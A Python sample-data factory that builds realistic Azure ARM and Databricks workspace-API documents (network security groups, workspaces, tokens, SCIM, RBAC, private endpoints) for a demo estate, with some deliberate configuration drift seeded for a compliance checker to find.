"""Builders for realistic ARM documents and workspace-API payloads (`driftwatch.estate/v1`).

Shapes follow azure-rest-api-specs examples (Databricks 2026-01-01, Network 2025-07-01): parameters
wrapped as {"type", "value"}, display-name locations, embedded subnets and security rules.
`python -m samples.factory` regenerates `samples/estate.json`, the bundled demo estate.
"""

from __future__ import annotations

import base64
import hashlib
import json
import sys
import zlib
from typing import Any

TENANT = "72f988bf-0000-4000-8000-000000000000"
SUB_PROD = "1b0c4e2a-1111-4c1e-9a51-2f6a0c9d7e01"
SUB_DEV = "8d3f7b6c-2222-4b8e-8f0a-6c2d1e4a9b02"
DAY_MS = 86_400_000
NOW_MS = 1_795_000_000_000  # 2026-11-18, fixed so the sample is reproducible

# As Microsoft Learn "Deploy Azure Databricks in your Azure virtual network (VNet injection)" publishes them
# (core/rules/data/nsg_reference.py); several ports travel in `destinationPortRanges`.
MANAGED_RULES = [
    ("databricks-worker-to-worker-inbound", "Inbound", 100, "*", "VirtualNetwork", "VirtualNetwork", "*"),
    ("databricks-worker-to-databricks-webapp", "Outbound", 100, "Tcp", "VirtualNetwork", "AzureDatabricks",
     "443,3306,8443-8451"),
    ("databricks-worker-to-sql", "Outbound", 101, "Tcp", "VirtualNetwork", "Sql", "3306"),
    ("databricks-worker-to-storage", "Outbound", 102, "Tcp", "VirtualNetwork", "Storage", "443"),
    ("databricks-worker-to-worker-outbound", "Outbound", 103, "*", "VirtualNetwork", "VirtualNetwork", "*"),
    ("databricks-worker-to-eventhub", "Outbound", 104, "Tcp", "VirtualNetwork", "EventHub", "9093"),
]


def rg_id(sub: str, rg: str) -> str:
    return f"/subscriptions/{sub}/resourceGroups/{rg}"


def nsg_rule(nsg_id: str, name: str, direction: str, priority: int, protocol: str, src: str, dst: str,
             port: str, access: str = "Allow") -> dict[str, Any]:
    """A security rule as ARM returns it; `port` "a,b" goes into `destinationPortRanges`, as ARM stores it."""
    ports = port.split(",")
    single, plural = (ports[0], []) if len(ports) == 1 else ("", ports)
    return {
        "name": name,
        "id": f"{nsg_id}/securityRules/{name}",
        "type": "Microsoft.Network/networkSecurityGroups/securityRules",
        "etag": 'W/"00000000-0000-0000-0000-000000000001"',
        "properties": {
            "provisioningState": "Succeeded", "protocol": protocol, "sourcePortRange": "*",
            "destinationPortRange": single, "sourceAddressPrefix": src, "destinationAddressPrefix": dst,
            "access": access, "priority": priority, "direction": direction,
            "sourcePortRanges": [], "destinationPortRanges": plural, "sourceAddressPrefixes": [],
            "destinationAddressPrefixes": [],
        },
    }


def nsg_doc(sub: str, rg: str, name: str, location: str = "westeurope",
            extra_rules: list[dict[str, Any]] | None = None, managed: bool = True) -> dict[str, Any]:
    nid = f"{rg_id(sub, rg)}/providers/Microsoft.Network/networkSecurityGroups/{name}"
    rules = [nsg_rule(nid, f"Microsoft.Databricks-workspaces_UseOnly_{n}", d, p, proto, s, t, port)
             for n, d, p, proto, s, t, port in MANAGED_RULES] if managed else []
    rules += extra_rules or []
    return {"name": name, "id": nid, "type": "Microsoft.Network/networkSecurityGroups", "location": location,
            "etag": 'W/"00000000-0000-0000-0000-000000000001"',
            "properties": {"provisioningState": "Succeeded", "securityRules": rules}}


def subnet(vnet_id: str, name: str, prefix: str, nsg_id: str | None, delegated: bool = True,
           nat_id: str | None = None, route_table_id: str | None = None) -> dict[str, Any]:
    props: dict[str, Any] = {"provisioningState": "Succeeded", "addressPrefix": prefix,
                             "privateEndpointNetworkPolicies": "Disabled",
                             "privateLinkServiceNetworkPolicies": "Enabled"}
    if nsg_id:
        props["networkSecurityGroup"] = {"id": nsg_id}
    if nat_id:
        props["natGateway"] = {"id": nat_id}
    if route_table_id:
        props["routeTable"] = {"id": route_table_id}
    props["delegations"] = [{
        "name": "databricks-del", "id": f"{vnet_id}/subnets/{name}/delegations/databricks-del",
        "type": "Microsoft.Network/virtualNetworks/subnets/delegations",
        "properties": {"serviceName": "Microsoft.Databricks/workspaces", "provisioningState": "Succeeded",
                       "actions": ["Microsoft.Network/virtualNetworks/subnets/join/action"]},
    }] if delegated else []
    return {"name": name, "id": f"{vnet_id}/subnets/{name}", "type": "Microsoft.Network/virtualNetworks/subnets",
            "properties": props}


def vnet_doc(sub: str, rg: str, name: str, subnets: list[dict[str, Any]], space: str = "10.0.0.0/16",
             location: str = "westeurope") -> dict[str, Any]:
    return {"name": name, "id": f"{rg_id(sub, rg)}/providers/Microsoft.Network/virtualNetworks/{name}",
            "type": "Microsoft.Network/virtualNetworks", "location": location,
            "properties": {"provisioningState": "Succeeded", "addressSpace": {"addressPrefixes": [space]},
                           "subnets": subnets}}


def workspace_doc(sub: str, rg: str, name: str, ws_num: int, *, location: str = "West Europe",
                  sku: str = "premium", npip: bool | None = True, public_access: str = "Disabled",
                  nsg_rules: str = "AllRules", vnet_id: str | None = None, public_subnet: str = "host",
                  private_subnet: str = "container", private_endpoint: str | None = "Approved",
                  cmk: bool = True, infra_encryption: bool = True, esc: bool = True,
                  tags: dict[str, str] | None = None) -> dict[str, Any]:
    """A classic (`computeMode: Hybrid`) workspace as GET returns it at api-version 2026-01-01."""
    wid = f"{rg_id(sub, rg)}/providers/Microsoft.Databricks/workspaces/{name}"
    params: dict[str, Any] = {
        "prepareEncryption": {"type": "Bool", "value": cmk},
        "requireInfrastructureEncryption": {"type": "Bool", "value": infra_encryption},
        "storageAccountName": {"type": "String", "value": f"dbstorage{ws_num:04d}"},
        "storageAccountSkuName": {"type": "String", "value": "Standard_GRS"},
    }
    if npip is not None:
        params["enableNoPublicIp"] = {"type": "Bool", "value": npip}
    if vnet_id:
        params["customVirtualNetworkId"] = {"type": "String", "value": vnet_id}
        params["customPublicSubnetName"] = {"type": "String", "value": public_subnet}
        params["customPrivateSubnetName"] = {"type": "String", "value": private_subnet}
    if cmk:
        params["encryption"] = {"type": "Object", "value": {
            "KeySource": "Microsoft.Keyvault", "KeyName": "dbfs-root", "keyversion": "0" * 32,
            "keyvaulturi": f"https://kv-{name}.vault.azure.net/"}}
    props: dict[str, Any] = {
        "computeMode": "Hybrid",
        "managedResourceGroupId": f"/subscriptions/{sub}/resourceGroups/databricks-rg-{name}",
        "parameters": params,
        "provisioningState": "Succeeded",
        "publicNetworkAccess": public_access,
        "requiredNsgRules": nsg_rules,
        "workspaceId": f"{ws_num:016d}",
        "workspaceUrl": f"adb-{ws_num:016d}.{ws_num % 20}.azuredatabricks.net",
        "createdDateTime": "2026-01-15T09:30:00.0000000Z",
        "authorizations": [{"principalId": "9a74af6f-d153-4348-988a-e2672920bee9",
                            "roleDefinitionId": "8e3af657-a8ff-443c-a75c-2fe8c4bcd635"}],
    }
    if private_endpoint:
        props["privateEndpointConnections"] = [{
            "name": f"{name}.pe", "id": f"{wid}/privateEndpointConnections/{name}.pe",
            "type": "Microsoft.Databricks/workspaces/privateEndpointConnections",
            "properties": {"privateEndpoint": {"id": f"{rg_id(sub, rg)}/providers/Microsoft.Network/privateEndpoints/pe-{name}"},
                           "groupIds": ["databricks_ui_api"],
                           "privateLinkServiceConnectionState": {"status": private_endpoint,
                                                                 "description": "", "actionsRequired": "None"},
                           "provisioningState": "Succeeded"}}]
    if cmk:
        kv = {"keySource": "Microsoft.Keyvault", "keyVaultProperties": {
            "keyVaultUri": f"https://kv-{name}.vault.azure.net/", "keyName": "cmk", "keyVersion": "1" * 32}}
        props["encryption"] = {"entities": {"managedServices": kv, "managedDisk": {
            **kv, "rotationToLatestKeyVersionEnabled": True}}}
    if esc:
        props["enhancedSecurityCompliance"] = {
            "automaticClusterUpdate": {"value": "Enabled"},
            "complianceSecurityProfile": {"value": "Enabled", "complianceStandards": ["HIPAA"]},
            "enhancedSecurityMonitoring": {"value": "Enabled"},
        }
    return {"name": name, "id": wid, "type": "Microsoft.Databricks/workspaces", "location": location,
            "sku": {"name": sku}, "tags": tags or {}, "properties": props}


def serverless_workspace_doc(sub: str, rg: str, name: str, ws_num: int, *, location: str = "West Europe",
                             public_access: str | None = None, private_endpoint: str | None = None,
                             cmk: bool = False, tags: dict[str, str] | None = None) -> dict[str, Any]:
    """A `computeMode: Serverless` workspace shaped after azure-rest-api-specs
    specification/databricks/resource-manager/Microsoft.Databricks/Databricks/stable/2026-01-01/examples/
    WorkspaceCreateServerless.json (settled: provisioningState Succeeded). No `parameters`,
    `managedResourceGroupId`, `requiredNsgRules` or managed-disk encryption: "Not allowed in Serverless
    ComputeMode workspace" in databricks.json."""
    wid = f"{rg_id(sub, rg)}/providers/Microsoft.Databricks/workspaces/{name}"
    principal = {"oid": "22222222-2222-4222-8222-222222222222", "puid": "33333333",
                 "applicationId": "44444444-4444-4444-8444-444444444444"}
    props: dict[str, Any] = {
        "computeMode": "Serverless",
        "provisioningState": "Succeeded",
        "uiDefinitionUri": "https://path/to/workspaceCreateUiDefinition.json",
        "authorizations": [{"principalId": "9a74af6f-d153-4348-988a-e2672920bee9",
                            "roleDefinitionId": "8e3af657-a8ff-443c-a75c-2fe8c4bcd635"}],
        "createdBy": principal, "updatedBy": principal,
        "createdDateTime": "2026-03-02T10:10:29.2858439Z",
        "workspaceId": f"{ws_num:016d}",
        "workspaceUrl": f"adb-{ws_num:016d}.{ws_num % 20}.azuredatabricks.net",
        "isUcEnabled": True,
    }
    if public_access is not None:
        props["publicNetworkAccess"] = public_access
    if private_endpoint:
        props["privateEndpointConnections"] = [{
            "name": f"{name}.pe", "id": f"{wid}/privateEndpointConnections/{name}.pe",
            "type": "Microsoft.Databricks/workspaces/privateEndpointConnections",
            "properties": {"privateEndpoint": {"id": f"{rg_id(sub, rg)}/providers/Microsoft.Network/privateEndpoints/pe-{name}"},
                           "groupIds": ["databricks_ui_api"],
                           "privateLinkServiceConnectionState": {"status": private_endpoint,
                                                                 "description": "", "actionsRequired": "None"},
                           "provisioningState": "Succeeded"}}]
    if cmk:
        props["encryption"] = {"entities": {"managedServices": {"keySource": "Microsoft.Keyvault", "keyVaultProperties": {
            "keyVaultUri": f"https://kv-{name}.vault.azure.net/", "keyName": "cmk", "keyVersion": "1" * 32}}}}
    return {"name": name, "id": wid, "type": "Microsoft.Databricks/workspaces", "location": location,
            "sku": {"name": "premium"}, "tags": tags or {}, "properties": props}


def diag_doc(workspace_id: str, categories: list[str] | None = None, all_logs: bool = False,
             name: str = "to-law") -> dict[str, Any]:
    logs = ([{"categoryGroup": "allLogs", "enabled": True}] if all_logs else
            [{"category": c, "enabled": True} for c in categories or []])
    sub = workspace_id.split("/")[2]
    return {"name": name, "id": f"{workspace_id}/providers/Microsoft.Insights/diagnosticSettings/{name}",
            "type": "Microsoft.Insights/diagnosticSettings",
            "properties": {"logs": logs, "metrics": [],
                           "workspaceId": f"/subscriptions/{sub}/resourceGroups/ops/providers/"
                                          "Microsoft.OperationalInsights/workspaces/law-security"}}


def ip_list(label: str, list_type: str, addresses: list[str], enabled: bool = True, n: int = 1) -> dict[str, Any]:
    return {"list_id": f"{n:08d}-0000-4000-8000-{zlib.crc32(label.encode()) % 10**12:012d}", "label": label,
            "list_type": list_type, "ip_addresses": addresses, "address_count": len(addresses),
            "enabled": enabled, "created_at": NOW_MS - 30 * DAY_MS, "created_by": 1001,
            "updated_at": NOW_MS - 30 * DAY_MS, "updated_by": 1001}


def token(token_id: str, days: int | None, owner: str = "etl@contoso.com",
          last_used_days_ago: int | None = 1) -> dict[str, Any]:
    created = NOW_MS - 10 * DAY_MS
    out = {"token_id": token_id, "creation_time": created,
           "expiry_time": -1 if days is None else created + days * DAY_MS,
           "comment": "pipeline", "created_by_id": 1001, "created_by_username": owner, "owner_id": 1001}
    if last_used_days_ago is not None:
        out["last_used_day"] = NOW_MS - last_used_days_ago * DAY_MS
    return out


COMPLIANT_SETTINGS = {"restrict_workspace_admins": {"status": "RESTRICT_TOKENS_AND_JOB_RUN_AS"},
                      "disable_legacy_dbfs": {"value": True}, "sql_results_download": {"value": False},
                      "disable_legacy_access": {"value": True}}
"""Settings-v2 payloads (`GET /api/2.0/settings/types/<type>/names/default` minus etag/setting_name)."""
VAULT_ID = f"/subscriptions/{SUB_PROD}/resourceGroups/rg-secrets/providers/Microsoft.KeyVault/vaults/kv-dbx-prod"
COMPLIANT_SCOPES = [{"name": "kv-pipelines", "backend_type": "AZURE_KEYVAULT",
                     "keyvault_metadata": {"resource_id": VAULT_ID, "dns_name": "https://kv-dbx-prod.vault.azure.net/"}}]
"""GET /api/2.0/secrets/scopes/list `scopes` (databricks-sdk-py 0.162.0 `SecretScope` fields)."""
COMPLIANT_SECRET_ACLS = {"kv-pipelines": [{"principal": "admins", "permission": "MANAGE"},
                                          {"principal": "data-engineers", "permission": "READ"}]}
ADMIN_SP_APP_ID = "0d1e2f3a-4b5c-4d6e-8f70-8192a3b4c5d6"


def scim_state() -> dict[str, list[dict[str, Any]]]:
    """SCIM `Resources` as GET /api/2.0/preview/scim/v2/{Users,ServicePrincipals,Groups} returns them:
    admins = alice + the nested group platform-admins (= the automation service principal)."""
    def member(mid: str, kind: str) -> dict[str, str]:
        return {"value": mid, "$ref": f"{kind}/{mid}"}
    return {
        "Users": [
            {"id": "1001", "userName": "alice@contoso.com", "displayName": "Alice", "externalId": "e-1001",
             "active": True},
            {"id": "1002", "userName": "breakglass@contoso.com", "displayName": "Break glass", "active": True},
            {"id": "1003", "userName": "dana@contoso.com", "displayName": "Dana", "externalId": "e-1003",
             "active": True},
        ],
        "ServicePrincipals": [
            {"id": "2001", "applicationId": ADMIN_SP_APP_ID, "displayName": "platform-automation", "active": True},
        ],
        "Groups": [
            {"id": "3001", "displayName": "admins", "members": [member("1001", "Users"), member("3002", "Groups")]},
            {"id": "3002", "displayName": "platform-admins", "externalId": "e-3002",
             "members": [member("2001", "ServicePrincipals")]},
            {"id": "3003", "displayName": "users",
             "members": [member("1001", "Users"), member("1002", "Users"), member("1003", "Users")],
             "entitlements": [{"value": "workspace-access"}, {"value": "databricks-sql-access"}]},
            {"id": "3004", "displayName": "data-engineers", "externalId": "e-3004",
             "members": [member("1003", "Users")]},
        ],
    }


SP_APP_ID = "6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b"
COMPLIANT_TOKEN_ACL = {"object_id": "authorization/tokens", "object_type": "tokens", "access_control_list": [
    {"group_name": "admins", "all_permissions": [{"permission_level": "CAN_MANAGE", "inherited": False}]},
    {"group_name": "automation-sp-group", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]},
]}
"""GET /api/2.0/permissions/authorization/tokens as Databricks returns it (databricks-sdk-py 0.162.0
`TokenPermissions.from_dict` fields)."""



# ---- compute and Unity Catalog (shapes: databricks-sdk-py 0.162.0 compute.py / catalog.py) --------------
INIT_SCRIPT_TEXT = b"#!/bin/bash\n# install the monitoring agent\necho monitoring-agent\n"
INIT_SCRIPT_SHA256 = hashlib.sha256(INIT_SCRIPT_TEXT).hexdigest()
UC_POLICY_DEFINITION = json.dumps({"data_security_mode": {"type": "fixed", "value": "DATA_SECURITY_MODE_STANDARD"},
                                   "spark_version": {"type": "regex", "pattern": "1[5-6]\\..*"}})
UC_POLICY_SHA256 = hashlib.sha256(json.dumps(json.loads(UC_POLICY_DEFINITION), sort_keys=True,
                                             separators=(",", ":")).encode()).hexdigest()
METASTORE_ID = "4a1b2c3d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"
ACCESS_CONNECTOR_ID = (f"/subscriptions/{SUB_PROD}/resourceGroups/rg-uc/providers/Microsoft.Databricks/"
                       "accessConnectors/ac-uc-prod")
ENCRYPTION_CONF = {"spark.authenticate": "true", "spark.network.crypto.enabled": "true",
                   "spark.io.encryption.enabled": "true"}
SPARK_VERSIONS = [{"key": k, "name": n} for k, n in (
    ("16.4.x-scala2.12", "16.4 LTS (includes Apache Spark 3.5.2, Scala 2.12)"),
    ("15.4.x-scala2.12", "15.4 LTS (includes Apache Spark 3.5.0, Scala 2.12)"),
    ("14.3.x-scala2.12", "14.3 LTS (includes Apache Spark 3.5.0, Scala 2.12)"),
    ("13.3.x-scala2.12", "13.3 LTS (includes Apache Spark 3.4.1, Scala 2.12)"))]


def cluster(cluster_id: str, name: str, *, source: str = "UI", mode: str | None = "DATA_SECURITY_MODE_STANDARD",
            version: str = "15.4.x-scala2.12", policy_id: str | None = "pol-uc-standard",
            conf: dict[str, str] | None = None, init_scripts: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    """A `ClusterDetails` as GET /api/2.1/clusters/list returns it."""
    doc: dict[str, Any] = {"cluster_id": cluster_id, "cluster_name": name, "cluster_source": source,
                           "spark_version": version, "node_type_id": "Standard_D4ds_v5", "num_workers": 2,
                           "state": "RUNNING", "spark_conf": dict(ENCRYPTION_CONF if conf is None else conf),
                           "init_scripts": init_scripts if init_scripts is not None else
                           [{"workspace": {"destination": "/Shared/init/agent.sh"}}]}
    if mode is not None:
        doc["data_security_mode"] = mode
    if policy_id is not None:
        doc["policy_id"] = policy_id
    return doc


def compute_uc_state() -> dict[str, Any]:
    """Compliant compute and Unity Catalog seed keys (core/contracts/estate_v1.py)."""
    return {
        "global_init_scripts": [{"script_id": "A1B2C3D4E5F60001", "name": "install-monitoring-agent",
                                 "enabled": True, "position": 0,
                                 "script": base64.b64encode(INIT_SCRIPT_TEXT).decode(), "created_at": NOW_MS,
                                 "created_by": "alice@contoso.com", "updated_at": NOW_MS,
                                 "updated_by": "alice@contoso.com"}],
        "clusters": [cluster("0101-120000-abcd0001", "shared-analytics"),
                     # a job cluster without UC: out of scope (compute.cluster_sources is UI, API)
                     cluster("0101-120000-job00001", "job-nightly", source="JOB", mode="NONE", policy_id=None)],
        "spark_versions": json.loads(json.dumps(SPARK_VERSIONS)),
        "cluster_policies": [{"policy_id": "pol-uc-standard", "name": "uc-standard",
                              "definition": UC_POLICY_DEFINITION, "created_at_timestamp": NOW_MS}],
        "policy_permissions": {"pol-uc-standard": {"access_control_list": [
            {"group_name": "users", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]}]}},
        "metastore_assignment": {"workspace_id": 0, "metastore_id": METASTORE_ID, "default_catalog_name": "main"},
        "metastore_summary": {"name": "metastore-westeurope", "owner": "uc-admins", "region": "westeurope",
                              "delta_sharing_scope": "INTERNAL_AND_EXTERNAL",
                              "delta_sharing_recipient_token_lifetime_in_seconds": 30 * 86400},
        "default_namespace": {"value": "main"},
        "storage_credentials": [{"name": "uc-root", "owner": "uc-admins", "read_only": False,
                                 "azure_managed_identity": {"access_connector_id": ACCESS_CONNECTOR_ID,
                                                            "credential_id": "c-0001"}}],
        "current_user": {"id": "7001", "userName": SP_APP_ID, "groups": [{"display": "uc-admins", "value": "7100"}]},
        "system_schemas": [{"schema": "access", "state": "ENABLE_COMPLETED"},
                           {"schema": "compute", "state": "AVAILABLE"}],
    }


COMPLIANT_CONF = {"enableIpAccessLists": "true", "maxTokenLifetimeDays": "90",
                  "enableVerboseAuditLogs": "true", "enableDbfsFileBrowser": "false"}
BASELINE_ALLOW = ["203.0.113.0/24", "198.51.100.7/32"]
BASELINE_BLOCK = ["192.0.2.0/24"]


def api_state(conf: dict[str, str] | None = None, allow: list[str] | None = None,
              block: list[str] | None = None, tokens: list[dict[str, Any]] | None = None,
              allow_enabled: bool = True) -> dict[str, Any]:
    lists = [ip_list("corp-egress", "ALLOW", allow if allow is not None else list(BASELINE_ALLOW),
                     enabled=allow_enabled)]
    block = BASELINE_BLOCK if block is None else block
    if block:
        lists.append(ip_list("known-bad", "BLOCK", block, n=2))
    return {"workspace_conf": dict(COMPLIANT_CONF if conf is None else conf), "ip_access_lists": lists,
            "tokens": tokens if tokens is not None else [token("a1b2c3d4e5f60718", 30)],
            "token_permissions": json.loads(json.dumps(COMPLIANT_TOKEN_ACL)),
            "settings": json.loads(json.dumps(COMPLIANT_SETTINGS)), "observed_at": NOW_MS,
            "secret_scopes": json.loads(json.dumps(COMPLIANT_SCOPES)),
            "secret_acls": json.loads(json.dumps(COMPLIANT_SECRET_ACLS)), "scim": scim_state(),
            **compute_uc_state()}


def network_for(sub: str, rg: str, tag: str, *, space: str, public: str, private: str,
                nsg_extra: list[dict[str, Any]] | None = None, delegated: bool = True,
                egress: bool = True, managed_rules: bool = True) -> tuple[str, list[dict[str, Any]]]:
    """A VNet with host/container subnets, an NSG on both and a NAT gateway; returns (vnet id, docs)."""
    nsg = nsg_doc(sub, rg, f"nsg-{tag}", extra_rules=nsg_extra, managed=managed_rules)
    vid = f"{rg_id(sub, rg)}/providers/Microsoft.Network/virtualNetworks/vnet-{tag}"
    nat = f"{rg_id(sub, rg)}/providers/Microsoft.Network/natGateways/nat-{tag}" if egress else None
    subs = [subnet(vid, "host", public, nsg["id"], delegated, nat), subnet(vid, "container", private, nsg["id"], delegated, nat)]
    return vid, [vnet_doc(sub, rg, f"vnet-{tag}", subs, space), nsg]


OWNER_ROLE = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
CONTRIBUTOR_ROLE = "b24988ac-6180-42a0-ab88-20f7382dd24c"
READER_ROLE = "acdd72a7-3385-48ef-bd42-f606fba81ae7"
DBX_OPERATOR_ROLE = "5d8f2c1a-0b3e-4c7d-9e6f-1a2b3c4d5e6f"
DBX_VIEWER_ROLE = "6e9a3d2b-1c4f-4d8e-8f70-2b3c4d5e6f70"
PLATFORM_GROUP_OID = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"
"""The Entra group of the platform team: the only principal allowed admin-granting Azure roles (baseline)."""
CONTRACTOR_OID = "7c6b5a49-3827-4165-9a4b-3c2d1e0f9a8b"
ETL_SP_OID = "9e8d7c6b-5a49-4382-8716-5a4b3c2d1e0f"
AUDITOR_OID = "1f2e3d4c-5b6a-4978-8a6b-5c4d3e2f1a0b"


def role_definition(sub: str, guid: str, name: str, actions: list[str], not_actions: list[str] | None = None,
                    builtin: bool = True) -> dict[str, Any]:
    """A role definition as ARM lists it at a subscription scope (azure-rest-api-specs .../Microsoft.Authorization/
    stable/2022-04-01/examples/GetRoleDefinitionById.json). The built-in ones carry their Microsoft Learn "Azure
    built-in roles" GUID and control-plane actions (Contributor's notActions abridged to the Authorization ones)."""
    return {"id": f"/subscriptions/{sub}/providers/Microsoft.Authorization/roleDefinitions/{guid}", "name": guid,
            "type": "Microsoft.Authorization/roleDefinitions",
            "properties": {"roleName": name, "type": "BuiltInRole" if builtin else "CustomRole",
                           "description": name, "assignableScopes": ["/"] if builtin else [f"/subscriptions/{sub}"],
                           "permissions": [{"actions": actions, "notActions": not_actions or [],
                                            "dataActions": [], "notDataActions": []}]}}


def role_definitions(sub: str) -> list[dict[str, Any]]:
    return [
        role_definition(sub, OWNER_ROLE, "Owner", ["*"]),
        role_definition(sub, CONTRIBUTOR_ROLE, "Contributor", ["*"],
                        ["Microsoft.Authorization/*/Delete", "Microsoft.Authorization/*/Write",
                         "Microsoft.Authorization/elevateAccess/Action"]),
        role_definition(sub, READER_ROLE, "Reader", ["*/read"]),
        # custom: may change Databricks workspaces (an admin path like Contributor)
        role_definition(sub, DBX_OPERATOR_ROLE, "Databricks Operator", ["Microsoft.Databricks/*", "*/read"],
                        builtin=False),
        # custom: every workspace action except writing it (notActions wins: not an admin path)
        role_definition(sub, DBX_VIEWER_ROLE, "Databricks Viewer", ["Microsoft.Databricks/workspaces/*"],
                        ["Microsoft.Databricks/workspaces/write", "Microsoft.Databricks/workspaces/delete"],
                        builtin=False),
    ]


def role_assignment(scope: str, guid: str, role: str, principal: str, principal_type: str = "User") -> dict[str, Any]:
    """A role assignment as RoleAssignments_ListForScope returns it (azure-rest-api-specs .../Microsoft.Authorization/
    stable/2022-04-01/examples/RoleAssignments_ListForScope.json)."""
    sub = scope.strip("/").split("/")[1]
    return {"id": f"{scope}/providers/Microsoft.Authorization/roleAssignments/{guid}", "name": guid,
            "type": "Microsoft.Authorization/roleAssignments",
            "properties": {"roleDefinitionId": f"/subscriptions/{sub}/providers/Microsoft.Authorization/"
                                               f"roleDefinitions/{role}",
                           "principalId": principal, "principalType": principal_type, "scope": scope}}


def sample_rbac() -> list[dict[str, Any]]:
    """Azure RBAC of the sample: the platform group owns both subscriptions (allowed); an auditor reads prod;
    on rg-bi a contractor holds Contributor and the ETL service principal a custom Databricks Operator role on
    dbw-bi-prod (both DBX-IAM-002 findings); a viewer role with write in its notActions is no admin path."""
    bi = f"{rg_id(SUB_PROD, 'rg-bi')}/providers/Microsoft.Databricks/workspaces/dbw-bi-prod"
    return [
        *role_definitions(SUB_PROD), *role_definitions(SUB_DEV),
        role_assignment(f"/subscriptions/{SUB_PROD}", "a0000001-0000-4000-8000-000000000001", OWNER_ROLE,
                        PLATFORM_GROUP_OID, "Group"),
        role_assignment(f"/subscriptions/{SUB_DEV}", "a0000001-0000-4000-8000-000000000002", OWNER_ROLE,
                        PLATFORM_GROUP_OID, "Group"),
        role_assignment(f"/subscriptions/{SUB_PROD}", "a0000001-0000-4000-8000-000000000003", READER_ROLE,
                        AUDITOR_OID),
        role_assignment(rg_id(SUB_PROD, "rg-bi"), "a0000001-0000-4000-8000-000000000004", CONTRIBUTOR_ROLE,
                        CONTRACTOR_OID),
        role_assignment(bi, "a0000001-0000-4000-8000-000000000005", DBX_OPERATOR_ROLE, ETL_SP_OID,
                        "ServicePrincipal"),
        role_assignment(rg_id(SUB_PROD, "rg-finance"), "a0000001-0000-4000-8000-000000000006", DBX_VIEWER_ROLE,
                        AUDITOR_OID),
    ]
SHARED_VAULT = "https://kv-dbx-prod.vault.azure.net/"
PRIVATELINK_ZONE = "privatelink.azuredatabricks.net"


def access_connector_doc(workspace_id: str, name: str, *, identity: str = "SystemAssigned",
                         refered_by: list[str] | None = None, state: str = "Succeeded") -> dict[str, Any]:
    """Microsoft.Databricks/accessConnectors as GET returns it (azure-rest-api-specs .../Databricks/stable/
    2026-01-01/examples/AccessConnectorGet.json)."""
    rg = "/".join(workspace_id.split("/")[:5])
    return {"name": name, "id": f"{rg}/providers/Microsoft.Databricks/accessConnectors/{name}",
            "type": "Microsoft.Databricks/accessConnectors", "location": "West Europe", "tags": {},
            "properties": {"provisioningState": state,
                           "referedBy": [workspace_id] if refered_by is None else refered_by},
            "identity": {"principalId": "5619ff16-afe1-47e5-ae67-8393c6c3223d",
                         "tenantId": TENANT, "type": identity}}


def lock_doc(scope: str, name: str, level: str = "CanNotDelete") -> dict[str, Any]:
    """Microsoft.Authorization/locks (locks.json 2020-05-01, example ManagementLocks_GetAtScope.json)."""
    return {"name": name, "id": f"{scope}/providers/Microsoft.Authorization/locks/{name}",
            "type": "Microsoft.Authorization/locks", "properties": {"level": level, "notes": "protect prod"}}


def private_endpoint_docs(pe_id: str, workspace_id: str, zone: str | None = PRIVATELINK_ZONE) -> list[dict[str, Any]]:
    """A private endpoint and its DNS zone group (Network 2025-07-01 privateEndpoint.json; zone group shape of
    example PrivateEndpointDnsZoneGroupList.json)."""
    sub = pe_id.split("/")[2]
    docs: list[dict[str, Any]] = [{
        "name": pe_id.rsplit("/", 1)[-1], "id": pe_id, "type": "Microsoft.Network/privateEndpoints",
        "location": "westeurope",
        "properties": {"provisioningState": "Succeeded", "privateLinkServiceConnections": [{
            "name": "databricks", "properties": {"privateLinkServiceId": workspace_id, "groupIds": ["databricks_ui_api"],
                                                 "privateLinkServiceConnectionState": {"status": "Approved"}}}]}}]
    if zone:
        docs.append({"name": "default", "id": f"{pe_id}/privateDnsZoneGroups/default",
                     "type": "Microsoft.Network/privateEndpoints/privateDnsZoneGroups",
                     "properties": {"provisioningState": "Succeeded", "privateDnsZoneConfigs": [{
                         "name": zone.replace(".", "-"),
                         "properties": {"privateDnsZoneId": f"/subscriptions/{sub}/resourceGroups/rg-dns/providers/"
                                                            f"Microsoft.Network/privateDnsZones/{zone}",
                                        "recordSets": [{"recordType": "A", "recordSetName": "adb", "fqdn":
                                                        f"adb.{zone}", "ipAddresses": ["10.0.0.4"]}]}}]}})
    return docs


def arm_extras(resources: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Access connectors, locks, private endpoints with DNS zone groups, tags and Key Vault keys on the sample
    workspaces (DBX-WS-012..017, DBX-NET-008, DBX-WS-010 destination): compliant, with drift on some."""
    out: list[dict[str, Any]] = []
    by_name = {r["name"]: r for r in resources if r["type"] == "Microsoft.Databricks/workspaces"}
    for name, ws in by_name.items():
        props, wid = ws["properties"], ws["id"]
        rg = "/".join(wid.split("/")[:5])
        if name != "dbw-legacy":
            ws["tags"]["costcenter"] = "cc-data"
        if props["computeMode"] == "Hybrid" and name != "dbw-legacy":
            conn = access_connector_doc(wid, f"ac-{name}")
            props["accessConnector"] = {"id": conn["id"], "identityType": "SystemAssigned"}
            props["defaultStorageFirewall"] = "Disabled" if name == "dbw-bi-prod" else "Enabled"
            if name == "dbw-ml-prod":  # connector re-pointed: it names no workspace and uses another identity
                conn = access_connector_doc(wid, f"ac-{name}", identity="UserAssigned", refered_by=[])
            out.append(conn)
        for key in (props.get("encryption") or {}).get("entities", {}).values():
            key["keyVaultProperties"]["keyVaultUri"] = SHARED_VAULT
        dbfs = (props.get("parameters") or {}).get("encryption")
        if dbfs:
            dbfs["value"]["keyvaulturi"] = SHARED_VAULT
        if name == "dbw-ml-prod":  # managed disks on an old key, auto-rotation off
            disk = props["encryption"]["entities"]["managedDisk"]
            disk["keyVaultProperties"] = dict(disk["keyVaultProperties"], keyName="cmk-2024")
            disk["rotationToLatestKeyVersionEnabled"] = False
        if name == "dbw-bi-prod":
            props["enhancedSecurityCompliance"]["complianceSecurityProfile"]["complianceStandards"] = [
                "HIPAA", "PCI_DSS"]
        for pec in props.get("privateEndpointConnections") or []:
            pe_id = pec["properties"]["privateEndpoint"]["id"]
            zone = {"vendor-etl": "privatelink.blob.core.windows.net", "dbw-serverless-prod": None}.get(
                name, PRIVATELINK_ZONE)
            out += private_endpoint_docs(pe_id, wid, zone)
